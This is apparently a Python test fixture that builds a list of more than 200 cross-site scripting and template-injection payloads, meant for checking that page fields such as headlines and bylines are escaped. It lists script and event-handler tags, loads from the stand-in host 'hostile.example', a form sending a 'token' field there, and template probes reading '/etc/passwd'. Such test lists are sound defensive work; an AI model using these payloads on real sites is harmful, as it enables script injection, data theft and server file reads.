"""What a hostile page may have in its headline, caption, byline, address, names and quotations: 200 payloads and more.

Written for this test: every kind of markup that runs something in some browser, in every way of hiding it that a
careless template lets through. Each one, if it ever ran, would call `window.alert` or load from `hostile.example`.
"""

from __future__ import annotations

from itertools import product

_CALL = "alert(1)"
_TAGS = (
    "<script>{call}</script>",
    "<script src=//hostile.example/x.js></script>",
    "<script src='/static/js/none.js' onerror={call}></script>",
    "<script type=module>{call}</script>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'/></svg>",
    "<img src=x onerror={call}>",
    "<img src='//hostile.example/p.png'>",
    "<body onload={call}>",
    "<iframe src='javascript:{call}'></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<object data='javascript:{call}'></object>",
    "<embed src='//hostile.example/x.swf'>",
    "<a href='javascript:{call}'>read on</a>",
    "<a href='jav&#x09;ascript:{call}'>read on</a>",
    "<form action='//hostile.example/'><input name=token autofocus onfocus={call}>",
    "<button formaction='javascript:{call}'>more</button>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>",
    "<style>@import '//hostile.example/x.css';</style>",
    "<style>*{{background:url(//hostile.example/b)}}</style>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<link rel=prefetch href=//hostile.example/>",
    "<meta http-equiv=refresh content='0;url=//hostile.example/'>",
    "<base href='//hostile.example/'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<textarea></textarea><script>{call}</script>",
    "<p style='background:url(javascript:{call})'>",
    "<p onmouseover={call} onclick={call} style='position:fixed;inset:0'>",
    "<xmp><script>{call}</script></xmp>",
    "<isindex type=image src=1 onerror={call}>",
    "<dialog open onclose={call}><form method=dialog>",
    "<div popover id=p onbeforetoggle={call}><button popovertarget=p>",
)
_BREAKOUTS = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</title></head>{tag}",
    "</script>{tag}",
    "-->{tag}<!--",
)
_BARE = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "//hostile.example/", "https://hostile.example/\"onmouseover=alert(1)//",
    "https://hostile.example/' onfocus=alert(1) autofocus '", "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)", "` onmouseover=alert(1)", "onerror=alert(1)//", "\" style=\"position:fixed;inset:0\"",
    "{{ 7*7 }}", "{{ config }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "{!alert(1)!}",
    "\u202e>tpircs/<)1(trela>tpircs<", "＜script＞alert(1)＜/script＞", "\ufeff<script>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x02<script>alert(1)</script>\x03", "]]><script>alert(1)</script>", "*/alert(1)/*",
    "';alert(1)//", "\";alert(1)//",
    "</pre><script>alert(1)</script>", "</blockquote></article><script>alert(1)</script>", "--!><svg onload=alert(1)>",
)  # fmt: skip


def payloads() -> list[str]:
    """Every tag bare, and each after one of the ways out of an attribute, a title, a script or a comment."""
    tags = [tag.format(call=_CALL) for tag in _TAGS]
    mixed = (way.format(tag=tag) for way, tag in product(_BREAKOUTS, tags))
    return list(dict.fromkeys((*mixed, *_BARE)))
